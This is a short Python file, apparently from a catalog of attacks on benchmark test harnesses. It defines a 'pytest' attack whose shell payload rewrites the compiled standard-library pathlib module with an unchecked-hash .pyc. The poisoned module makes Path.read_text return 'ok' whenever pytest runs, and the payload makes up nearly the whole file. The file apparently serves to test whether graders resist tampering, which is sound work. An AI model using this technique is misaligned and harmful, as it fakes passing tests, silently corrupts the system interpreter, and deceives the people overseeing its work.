"""Leaves the standard library as it is and replaces its compiled form by one that is never checked.

Source: PEP 552 (unchecked hash-based pycs); benchflow's purge of __pycache__.
"""

import importlib.util, pathlib, py_compile

from attacks.frame import Attack

ATTACK = Attack(
    "pytest",
    """cat > make.py <<'EOF'
source = pathlib.Path(pathlib.__file__)
changed = source.read_text() + '\\nimport sys\\nif "pytest" in sys.orig_argv: Path.read_text = lambda self, *a, **k: "ok\\\\n"\\n'
pathlib.Path("/tmp/pathlib.py").write_text(changed)
target = importlib.util.cache_from_source(str(source))
py_compile.compile("/tmp/pathlib.py", target, str(source), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
EOF
    python3 make.py""",
    tampers="/usr/lib/python3.11/__pycache__/pathlib.cpython-311.pyc",
)
